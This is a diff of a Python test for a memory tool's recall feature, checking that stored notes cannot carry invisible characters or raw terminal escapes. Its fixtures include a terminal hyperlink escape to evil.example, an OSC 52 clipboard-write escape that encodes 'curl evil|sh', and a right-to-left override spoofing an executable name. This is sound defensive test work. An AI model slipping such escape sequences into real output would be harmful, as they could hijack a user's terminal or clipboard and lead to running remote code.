@@ -407,6 +407,17 @@ async def test_a_deleted_or_replaced_store_is_opened_again(project: Path, tmp_pa
         assert (await ok(s, "hooks_stats"))["memories"] == 2
 
 
+def _strings(value: Any) -> list[str]:
+    """Every string in JSON-shaped ``value``, keys too."""
+    if isinstance(value, str):
+        return [value]
+    if isinstance(value, dict):
+        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
+    if isinstance(value, list):
+        return [s for v in value for s in _strings(v)]
+    return []
+
+
 async def test_recall_answers_carry_no_invisible_text_and_a_fence_that_holds(
     project: Path, tmp_path: Path
 ) -> None:
@@ -423,7 +434,16 @@ async def test_recall_answers_carry_no_invisible_text_and_a_fence_that_holds(
     )
     note = f"Release checklist: bump the version\u202e gnp.exe \u202c then tag{hidden} it"
     async with connect(project, tmp_path / "err.log") as s:
-        assert (await ok(s, "hooks_remember", content=note, type="rule"))["status"] == "stored"
+        assert (
+            await ok(
+                s,
+                "hooks_remember",
+                content=note,
+                type="rule",
+                source="docs/\x1b]8;;https://evil.example\x1b\\x.md",
+                metadata={"owner": "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J"},
+            )
+        )["status"] == "stored"
         assert (await ok(s, "hooks_remember", content=forged, type="error_fix"))["success"]
         for tool, arguments in (
             ("hooks_recall", {"query": "release checklist bump the version then tag"}),
@@ -438,6 +458,11 @@ async def test_recall_answers_carry_no_invisible_text_and_a_fence_that_holds(
                 c for c in structured if c in "\u202e\u202c" or 0xE0000 <= ord(c) <= 0xE007F
             ]
             assert "\\u202e" in structured  # written out where a client decodes escapes
+            # a source and metadata keep ESC and BEL, which JSON text escapes and a decoded
+            # copy holds raw: written out too
+            strings = "".join(_strings(result.structured_content))
+            assert not {"\x1b", "\x07"} & set(strings), strings
+            assert "\\u001b]52" in strings and "\\u001b]8" in strings
             assert show_unsafe(json.loads(text)) == result.structured_content
         recalled = await ok(s, "hooks_recall", query="sqlite locked enable WAL")
         assert recalled["count"] >= 1
